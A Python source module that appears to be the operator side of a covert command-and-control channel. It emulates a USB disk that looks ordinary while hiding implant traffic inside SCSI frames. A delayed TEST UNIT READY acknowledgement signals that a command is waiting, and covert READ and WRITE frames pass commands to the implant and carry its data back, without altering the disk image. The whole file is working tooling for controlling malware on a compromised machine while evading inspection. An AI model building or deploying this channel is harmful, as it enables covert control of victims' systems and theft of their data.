"""Analyst-side mass-storage emulator.

Normal frames are serviced from a backing block store so the device looks
like an ordinary disk.  Frames carrying the covert marker are diverted to
the covert endpoint instead:

  * covert TEST UNIT READY is the implant's poll; the acknowledgement is
    delayed by delay_ms when a command datagram is queued, which is the
    whole signal,
  * covert READ(10) returns queued analyst->implant datagrams packed into
    the data phase,
  * covert WRITE(10) carries implant->analyst datagrams into the inbound
    sink.

Covert frames never touch the block store, so interleaving them with a
normal workload leaves the disk image byte-identical.
"""

from __future__ import annotations

import os
import threading
import time
from collections import deque
from dataclasses import dataclass

from . import datagram as dg
from .errors import QueueFull
from .scsi import BLOCK_SIZE, Cdb, FrameClass, classify
from .transport import (STATUS_CHECK_CONDITION, STATUS_GOOD, ScsiExchange,
                        ScsiResponse)

DEFAULT_QUEUE_LIMIT = 4096


@dataclass
class PollConfig:
    """Delayed-ACK signaling parameters.

    delay_ms is how long the emulator sits on a covert poll's status byte
    when a command is pending; detect_margin_ms is how far above its RTT
    baseline the implant must see a poll land before it counts as a signal.
    The delay must clear the margin, and the margin must clear transport
    jitter.
    """
    delay_ms: float = 40.0
    poll_interval_ms: float = 500.0
    detect_margin_ms: float = 20.0

    def __post_init__(self):
        if not self.delay_ms > self.detect_margin_ms > 0:
            raise ValueError(
                f"need delay_ms > detect_margin_ms > 0, got "
                f"{self.delay_ms}/{self.detect_margin_ms}")


class BlockStore:
    """Sparse in-memory block store; never-written blocks read as zeros.

    When image_path is given, writes also land in a raw LBA-ordered image
    file so the emulator can present a plausible disk.
    """

    ZERO_BLOCK = bytes(BLOCK_SIZE)

    def __init__(self, capacity_blocks: int, image_path: str | None = None):
        if capacity_blocks < 1:
            raise ValueError("capacity must be at least one block")
        self.capacity_blocks = capacity_blocks
        self._blocks: dict[int, bytes] = {}
        self._image = None
        if image_path is not None:
            preexisting = os.path.exists(image_path)
            self._image = open(image_path, "r+b" if preexisting else "w+b")
            if preexisting:
                self._load_image()
            else:
                self._image.truncate(capacity_blocks * BLOCK_SIZE)

    def _load_image(self):
        self._image.seek(0)
        for lba in range(self.capacity_blocks):
            block = self._image.read(BLOCK_SIZE)
            if len(block) < BLOCK_SIZE:
                break
            if block != self.ZERO_BLOCK:
                self._blocks[lba] = block

    def in_range(self, lba: int, count: int) -> bool:
        return 0 <= lba and count >= 1 and lba + count <= self.capacity_blocks

    def read(self, lba: int, count: int) -> bytes:
        return b"".join(self._blocks.get(i, self.ZERO_BLOCK)
                        for i in range(lba, lba + count))

    def write(self, lba: int, data: bytes):
        assert len(data) == (len(data) // BLOCK_SIZE) * BLOCK_SIZE
        for i in range(len(data) // BLOCK_SIZE):
            self._blocks[lba + i] = data[i * BLOCK_SIZE:(i + 1) * BLOCK_SIZE]
        if self._image is not None:
            self._image.seek(lba * BLOCK_SIZE)
            self._image.write(data)
            self._image.flush()

    def close(self):
        if self._image is not None:
            self._image.close()
            self._image = None


@dataclass
class ChannelCounters:
    polls_observed: int = 0
    pending_signals_sent: int = 0
    covert_reads: int = 0
    covert_writes: int = 0
    normal_frames: int = 0
    last_delay_applied_ms: float = 0.0


class Emulator:
    """MSD emulator with the covert endpoint.

    handle_exchange is invoked serially by the transport; enqueue_command
    and drain_results may be called concurrently from the console side.
    """

    def __init__(self, block_store: BlockStore,
                 poll_config: PollConfig | None = None,
                 queue_limit: int = DEFAULT_QUEUE_LIMIT,
                 sleep=time.sleep):
        self.store = block_store
        self.poll_config = poll_config or PollConfig()
        self.queue_limit = queue_limit
        self._sleep = sleep
        self._lock = threading.Condition()
        self._outbound: deque[dg.Datagram] = deque()
        self._inbound: deque[dg.Datagram] = deque()
        self.counters = ChannelCounters()
        self.last_poll_monotonic: float | None = None

    # --- console-side endpoint ---

    def enqueue_command(self, d: dg.Datagram, timeout: float | None = None):
        """Append an analyst->implant datagram.

        With timeout=None a full queue raises QueueFull immediately; with a
        timeout the call blocks for queue space (backpressure) and raises
        QueueFull only on expiry.
        """
        deadline = None if timeout is None else time.monotonic() + timeout
        with self._lock:
            while len(self._outbound) >= self.queue_limit:
                if deadline is None:
                    raise QueueFull(f"outbound queue at limit {self.queue_limit}")
                remaining = deadline - time.monotonic()
                if remaining <= 0 or not self._lock.wait(remaining):
                    raise QueueFull(f"outbound queue at limit {self.queue_limit}")
            self._outbound.append(d)

    def drain_results(self) -> list[dg.Datagram]:
        """Return and remove all collected implant->analyst datagrams."""
        with self._lock:
            out = list(self._inbound)
            self._inbound.clear()
        return out

    def wait_results(self, timeout: float) -> list[dg.Datagram]:
        """Like drain_results but blocks up to timeout for the first arrival."""
        deadline = time.monotonic() + timeout
        with self._lock:
            while not self._inbound:
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    return []
                self._lock.wait(remaining)
            out = list(self._inbound)
            self._inbound.clear()
        return out

    @property
    def queue_depth(self) -> int:
        with self._lock:
            return len(self._outbound)

    # --- device-side endpoint ---

    def handle_exchange(self, exchange: ScsiExchange) -> ScsiResponse:
        cdb = exchange.cdb
        if classify(cdb) == FrameClass.COVERT:
            return self._handle_covert(cdb, exchange.data_out)
        self.counters.normal_frames += 1
        return self._handle_normal(cdb, exchange.data_out)

    def _handle_normal(self, cdb: Cdb, data_out: bytes) -> ScsiResponse:
        if cdb.is_test_unit_ready:
            return ScsiResponse(STATUS_GOOD)
        if not self.store.in_range(cdb.lba, cdb.transfer_length):
            return ScsiResponse(STATUS_CHECK_CONDITION)
        if cdb.is_read:
            return ScsiResponse(STATUS_GOOD,
                                self.store.read(cdb.lba, cdb.transfer_length))
        if len(data_out) != cdb.transfer_length * BLOCK_SIZE:
            return ScsiResponse(STATUS_CHECK_CONDITION)
        self.store.write(cdb.lba, data_out)
        return ScsiResponse(STATUS_GOOD)

    def _handle_covert(self, cdb: Cdb, data_out: bytes) -> ScsiResponse:
        if cdb.is_test_unit_ready:
            return self._covert_poll()
        if cdb.is_read:
            return self._covert_read(cdb.transfer_length)
        return self._covert_write(data_out)

    def _covert_poll(self) -> ScsiResponse:
        self.counters.polls_observed += 1
        self.last_poll_monotonic = time.monotonic()
        with self._lock:
            pending = bool(self._outbound)
        if pending:
            # The delay before the status byte IS the "command ready" signal.
            self._sleep(self.poll_config.delay_ms / 1000.0)
            self.counters.pending_signals_sent += 1
            self.counters.last_delay_applied_ms = self.poll_config.delay_ms
        return ScsiResponse(STATUS_GOOD)

    def _covert_read(self, transfer_length: int) -> ScsiResponse:
        self.counters.covert_reads += 1
        capacity = transfer_length * BLOCK_SIZE
        taken: list[dg.Datagram] = []
        used = 0
        with self._lock:
            while self._outbound and used + self._outbound[0].wire_size <= capacity:
                d = self._outbound.popleft()
                taken.append(d)
                used += d.wire_size
            self._lock.notify_all()  # queue space freed
        return ScsiResponse(STATUS_GOOD, dg.pack_blocks(taken, capacity))

    def _covert_write(self, data_out: bytes) -> ScsiResponse:
        self.counters.covert_writes += 1
        received = dg.decode_stream(data_out)
        with self._lock:
            self._inbound.extend(received)
            self._lock.notify_all()
        return ScsiResponse(STATUS_GOOD)
